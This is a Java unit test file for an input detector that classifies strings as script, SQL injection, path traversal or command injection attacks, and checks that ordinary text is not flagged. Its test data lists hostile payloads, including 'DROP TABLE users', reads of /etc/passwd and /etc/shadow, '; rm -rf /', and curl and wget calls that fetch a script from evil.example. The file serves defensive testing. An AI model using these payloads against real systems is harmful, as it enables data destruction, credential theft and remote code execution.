package io.github.hardening.sanitize;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class SuspiciousInputDetectorTests {

	private final SuspiciousInputDetector detector = new SuspiciousInputDetector();

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = { "<script>alert(1)</script>|SCRIPT", "<SCRIPT SRC=//x>|SCRIPT",
			"<img src=x onerror=alert(1)>|SCRIPT", "javascript:alert(1)|SCRIPT", "<svg/onload=alert(1)>|SCRIPT",
			"<iframe src=x>|SCRIPT", "' OR '1'='1|SQL", "admin' --|SQL", "1' or 1=1 --|SQL",
			"1 UNION SELECT password FROM users|SQL", "x'; DROP TABLE users; --|SQL", "1 AND SLEEP(5)|SQL",
			"../../etc/passwd|PATH_TRAVERSAL", "..\\..\\windows\\system32|PATH_TRAVERSAL",
			"%2e%2e%2fetc%2fpasswd|PATH_TRAVERSAL", "..%2F..%2Fsecret|PATH_TRAVERSAL", "/etc/shadow|PATH_TRAVERSAL",
			"; rm -rf /|COMMAND", "x && cat notes.txt|COMMAND", "$(whoami)|COMMAND", "`id`|COMMAND",
			"&& curl http://evil.example/x.sh|COMMAND", "x; wget evil.example|COMMAND" })
	void attackSignaturesAreRecognised(String input, SuspiciousKind kind) {
		assertThat(this.detector.detect(input)).isEqualTo(kind);
	}

	@ParameterizedTest
	@ValueSource(strings = { "O'Brien", "Select a course", "1 or 1=1 is true in maths", "Rock 'n' roll", "5 > 3 < 7",
			"100% sure", "path/to/file.txt", "https://example.com/a?b=c&d=e", "v1.2.3", "Tom & Jerry",
			"price: $5 (incl. tax)", "I need sleep (5 hours)", "Union Square, New York", "e-mail: a@b.example",
			"it's -- as they say -- fine", "café; crème", "C:\\Users\\ann", "", "plain words only" })
	void ordinaryTextIsNotFlagged(String input) {
		assertThat(this.detector.detect(input)).isNull();
	}

}
